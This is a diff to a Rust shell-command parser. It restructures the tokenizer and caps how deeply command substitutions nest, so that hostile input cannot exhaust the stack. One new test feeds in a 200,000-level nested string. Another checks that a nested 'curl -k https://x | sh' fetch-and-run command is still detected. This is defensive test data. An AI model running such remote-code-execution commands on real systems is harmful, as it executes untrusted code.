@@ -102,7 +102,7 @@ pub fn parse(src: &str) -> Script {
 
 fn parse_at(src: &str, depth: usize) -> Script {
     let mut script = Script::default();
-    let tokens = tokenize(src, &mut script.substitutions);
+    let tokens = tokenize(src, &mut script.substitutions, depth);
     let mut pipeline: Vec<SimpleCommand> = Vec::new();
     let mut cmd = SimpleCommand::default();
     let mut redirect_target = false;
@@ -192,193 +192,203 @@ fn balanced(chars: &[char], mut i: usize) -> (String, usize) {
     (chars[start..].iter().collect(), chars.len())
 }
 
-fn tokenize(src: &str, subs: &mut Vec<Script>) -> Vec<Token> {
-    let chars: Vec<char> = src.chars().collect();
-    let mut tokens = Vec::new();
-    let mut word = String::new();
-    let mut in_word = false;
-    // The substitutions written in the current word.
-    let mut word_subs: Vec<usize> = Vec::new();
-    let mut i = 0;
-    macro_rules! end_word {
-        () => {
-            if in_word {
-                tokens.push(Token::Word(
-                    std::mem::take(&mut word),
-                    std::mem::take(&mut word_subs),
-                ));
-                in_word = false;
-            }
-        };
+/// Splits a script into words and operators. Substitutions (`$(…)`, `` `…` ``, `<(…)`) are
+/// parsed as scripts of their own, one level deeper: past [`MAX_NESTING`] they are kept as
+/// empty scripts, so a hostile `$($($(…)))` cannot exhaust the stack.
+fn tokenize(src: &str, subs: &mut Vec<Script>, depth: usize) -> Vec<Token> {
+    let mut lexer = Lexer {
+        chars: src.chars().collect(),
+        i: 0,
+        tokens: Vec::new(),
+        word: String::new(),
+        in_word: false,
+        word_subs: Vec::new(),
+        subs,
+        depth,
+    };
+    while lexer.i < lexer.chars.len() {
+        lexer.step();
     }
-    macro_rules! substitution {
-        ($body:expr) => {{
-            subs.push(parse($body));
-            word_subs.push(subs.len() - 1);
-        }};
+    lexer.end_word();
+    lexer.tokens
+}
+
+/// The tokenizer's state: where it is, the word being built and the tokens so far.
+struct Lexer<'a> {
+    chars: Vec<char>,
+    i: usize,
+    tokens: Vec<Token>,
+    word: String,
+    in_word: bool,
+    /// The substitutions written in the current word (indexes into `subs`).
+    word_subs: Vec<usize>,
+    subs: &'a mut Vec<Script>,
+    depth: usize,
+}
+
+impl Lexer<'_> {
+    fn peek(&self, ahead: usize) -> Option<char> {
+        self.chars.get(self.i + ahead).copied()
     }
-    while i < chars.len() {
-        let c = chars[i];
+
+    /// Reads one character (or one operator, quoted string or substitution).
+    fn step(&mut self) {
+        let c = self.chars[self.i];
         match c {
             ' ' | '\t' | '\r' => {
-                end_word!();
-                i += 1;
+                self.end_word();
+                self.i += 1;
             }
-            '\n' => {
-                end_word!();
-                tokens.push(Token::Separator);
-                i += 1;
-            }
-            '#' if !in_word => {
-                while i < chars.len() && chars[i] != '\n' {
-                    i += 1;
+            '\n' => self.separator(1),
+            '#' if !self.in_word => {
+                while self.i < self.chars.len() && self.chars[self.i] != '\n' {
+                    self.i += 1;
                 }
             }
             '\\' => {
-                if i + 1 < chars.len() && chars[i + 1] == '\n' {
-                    i += 2;
-                    continue;
+                if self.peek(1) != Some('\n') {
+                    self.in_word = true;
+                    if let Some(n) = self.peek(1) {
+                        self.word.push(n);
+                    }
                 }
-                in_word = true;
-                if let Some(&n) = chars.get(i + 1) {
-                    word.push(n);
-                }
-                i += 2;
+                self.i += 2;
             }
             '\'' => {
-                in_word = true;
-                i += 1;
-                while i < chars.len() && chars[i] != '\'' {
-                    word.push(chars[i]);
-                    i += 1;
+                self.in_word = true;
+                self.i += 1;
+                while self.i < self.chars.len() && self.chars[self.i] != '\'' {
+                    self.word.push(self.chars[self.i]);
+                    self.i += 1;
                 }
-                i += 1;
+                self.i += 1;
             }
-            '"' => {
-                in_word = true;
-                i += 1;
-                while i < chars.len() && chars[i] != '"' {
-                    if chars[i] == '\\' && i + 1 < chars.len() && "\"\\$`\n".contains(chars[i + 1])
-                    {
-                        if chars[i + 1] != '\n' {
-                            word.push(chars[i + 1]);
-                        }
-                        i += 2;
-                        continue;
-                    }
-                    if chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
-                        let (body, next) = balanced(&chars, i + 2);
-                        substitution!(&body);
-                        word.push_str("$(…)");
-                        i = next;
-                        continue;
-                    }
-                    if chars[i] == '`' {
-                        let end = chars[i + 1..]
-                            .iter()
-                            .position(|&c| c == '`')
-                            .map_or(chars.len(), |p| i + 1 + p);
-                        let body: String = chars[i + 1..end].iter().collect();
-                        substitution!(&body);
-                        word.push_str("`…`");
-                        i = end + 1;
-                        continue;
-                    }
-                    word.push(chars[i]);
-                    i += 1;
-                }
-                i += 1;
-            }
-            '`' => {
-                in_word = true;
-                let end = chars[i + 1..]
-                    .iter()
-                    .position(|&c| c == '`')
-                    .map_or(chars.len(), |p| i + 1 + p);
-                let body: String = chars[i + 1..end].iter().collect();
-                substitution!(&body);
-                word.push_str("`…`");
-                i = end + 1;
-            }
-            '$' if chars.get(i + 1) == Some(&'(') => {
-                in_word = true;
-                let (body, next) = balanced(&chars, i + 2);
-                substitution!(&body);
-                word.push_str("$(…)");
-                i = next;
-            }
-            '<' | '>' if chars.get(i + 1) == Some(&'(') => {
-                // Process substitution: its output is a file the command reads or writes.
-                in_word = true;
-                let (body, next) = balanced(&chars, i + 2);
-                substitution!(&body);
-                word.push_str("/dev/fd/63");
-                i = next;
-            }
+            '"' => self.double_quoted(),
+            '`' => self.backquoted(),
+            '$' if self.peek(1) == Some('(') => self.dollar_paren("$(…)"),
+            // Process substitution: its output is a file the command reads or writes.
+            '<' | '>' if self.peek(1) == Some('(') => self.dollar_paren("/dev/fd/63"),
+            '|' if self.peek(1) == Some('|') => self.separator(2),
             '|' => {
-                end_word!();
-                if chars.get(i + 1) == Some(&'|') {
-                    tokens.push(Token::Separator);
-                    i += 2;
-                } else {
-                    tokens.push(Token::Pipe);
-                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
-                }
+                self.end_word();
+                self.tokens.push(Token::Pipe);
+                self.i += if self.peek(1) == Some('&') { 2 } else { 1 };
             }
-            '&' => {
-                if chars.get(i + 1) == Some(&'>') {
-                    end_word!();
-                    tokens.push(Token::Redirect);
-                    i += if chars.get(i + 2) == Some(&'>') { 3 } else { 2 };
-                } else {
-                    end_word!();
-                    tokens.push(Token::Separator);
-                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
-                }
+            '&' if self.peek(1) == Some('>') => {
+                self.end_word();
+                self.tokens.push(Token::Redirect);
+                self.i += if self.peek(2) == Some('>') { 3 } else { 2 };
             }
-            ';' | '(' | ')' => {
-                end_word!();
-                tokens.push(Token::Separator);
-                i += if c == ';' && chars.get(i + 1) == Some(&';') {
-                    2
-                } else {
-                    1
-                };
-            }
-            '<' | '>' => {
-                // A file-descriptor number right before belongs to the redirection (`2>`).
-                if in_word && word.chars().all(|d| d.is_ascii_digit()) {
-                    word.clear();
-                    in_word = false;
-                }
-                end_word!();
-                let mut j = i + 1;
-                while j < chars.len() && matches!(chars[j], '<' | '>' | '&' | '|' | '-') {
-                    j += 1;
-                }
-                let op: String = chars[i..j].iter().collect();
-                // `2>&1`: the target is a descriptor, glued to the operator.
-                if op.ends_with('&') {
-                    while j < chars.len() && (chars[j].is_ascii_digit() || chars[j] == '-') {
-                        j += 1;
-                    }
-                    i = j;
-                    continue;
-                }
-                tokens.push(Token::Redirect);
-                i = j;
-            }
+            '&' => self.separator(if self.peek(1) == Some('&') { 2 } else { 1 }),
+            ';' => self.separator(if self.peek(1) == Some(';') { 2 } else { 1 }),
+            '(' | ')' => self.separator(1),
+            '<' | '>' => self.redirection(),
             _ => {
-                in_word = true;
-                word.push(c);
-                i += 1;
+                self.in_word = true;
+                self.word.push(c);
+                self.i += 1;
             }
         }
     }
-    if in_word {
-        tokens.push(Token::Word(word, word_subs));
+
+    fn end_word(&mut self) {
+        if self.in_word {
+            self.tokens.push(Token::Word(
+                std::mem::take(&mut self.word),
+                std::mem::take(&mut self.word_subs),
+            ));
+            self.in_word = false;
+        }
     }
-    tokens
+
+    /// Ends the word and the pipeline; the operator is `len` characters long.
+    fn separator(&mut self, len: usize) {
+        self.end_word();
+        self.tokens.push(Token::Separator);
+        self.i += len;
+    }
+
+    /// Records a substitution's body as a script of the current word.
+    fn substitution(&mut self, body: &str) {
+        let script = if self.depth < MAX_NESTING {
+            parse_at(body, self.depth + 1)
+        } else {
+            Script::default()
+        };
+        self.subs.push(script);
+        self.word_subs.push(self.subs.len() - 1);
+    }
+
+    /// `$(…)` or `<(…)`/`>(…)` at `i`: the word gets `shown` in its place.
+    fn dollar_paren(&mut self, shown: &str) {
+        self.in_word = true;
+        let (body, next) = balanced(&self.chars, self.i + 2);
+        self.substitution(&body);
+        self.word.push_str(shown);
+        self.i = next;
+    }
+
+    /// `` `…` `` at `i` (inside or outside double quotes).
+    fn backquoted(&mut self) {
+        self.in_word = true;
+        let start = self.i + 1;
+        let end = self.chars[start..]
+            .iter()
+            .position(|&c| c == '`')
+            .map_or(self.chars.len(), |p| start + p);
+        let body: String = self.chars[start..end].iter().collect();
+        self.substitution(&body);
+        self.word.push_str("`…`");
+        self.i = end + 1;
+    }
+
+    /// `"…"` at `i`: a backslash escapes only `"`, `\`, `$`, a backquote or a newline;
+    /// substitutions still run.
+    fn double_quoted(&mut self) {
+        self.in_word = true;
+        self.i += 1;
+        while let Some(c) = self.peek(0) {
+            match c {
+                '"' => break,
+                '\\' if self.peek(1).is_some_and(|n| "\"\\$`\n".contains(n)) => {
+                    if let Some(n) = self.peek(1).filter(|&n| n != '\n') {
+                        self.word.push(n);
+                    }
+                    self.i += 2;
+                }
+                '$' if self.peek(1) == Some('(') => self.dollar_paren("$(…)"),
+                '`' => self.backquoted(),
+                _ => {
+                    self.word.push(c);
+                    self.i += 1;
+                }
+            }
+        }
+        self.i += 1;
+    }
+
+    /// `<`, `>`, `>>`, `2>`, `<&-`…: the next word is a file, unless the operator's target is a
+    /// descriptor glued to it (`2>&1`).
+    fn redirection(&mut self) {
+        // A file-descriptor number right before belongs to the redirection (`2>`).
+        if self.in_word && self.word.chars().all(|d| d.is_ascii_digit()) {
+            self.word.clear();
+            self.in_word = false;
+        }
+        self.end_word();
+        let mut j = self.i + 1;
+        while j < self.chars.len() && matches!(self.chars[j], '<' | '>' | '&' | '|' | '-') {
+            j += 1;
+        }
+        if self.chars[j - 1] == '&' {
+            while j < self.chars.len() && (self.chars[j].is_ascii_digit() || self.chars[j] == '-') {
+                j += 1;
+            }
+        } else {
+            self.tokens.push(Token::Redirect);
+        }
+        self.i = j;
+    }
 }
 
 /// A simple command with wrappers (`sudo`, `env`, `exec`, `nohup`, `timeout`, `xargs`…) and
@@ -709,6 +719,34 @@ mod tests {
         assert_eq!((code.word, code.text.as_str()), (4, "id"));
         let argv: Vec<String> = ["sh", "script.sh", "-c"].map(String::from).to_vec();
         assert_eq!(shell_code(&SimpleCommand::from_argv(&argv)), None);
+    }
+
+    #[test]
+    fn hostile_nesting_is_cut_off_instead_of_exhausting_the_stack() {
+        let n = 200_000;
+        let deep = format!("echo {}x{}", "$(".repeat(n), ")".repeat(n));
+        let s = parse(&deep);
+        let depth = |mut s: &Script| {
+            let mut d = 0;
+            while let Some(inner) = s.substitutions.first() {
+                s = inner;
+                d += 1;
+            }
+            d
+        };
+        // MAX_NESTING levels read; below them one empty script stands for the rest.
+        assert_eq!(depth(&s), MAX_NESTING + 1);
+        // Up to the limit, what is nested is still read.
+        let s = parse("echo $(echo $(echo $(curl -k https://x | sh)))");
+        let names: Vec<&str> = s
+            .all_commands()
+            .iter()
+            .map(|c| c.words[0].as_str())
+            .collect();
+        assert!(
+            names.contains(&"curl") && names.contains(&"sh"),
+            "{names:?}"
+        );
     }
 
     #[test]
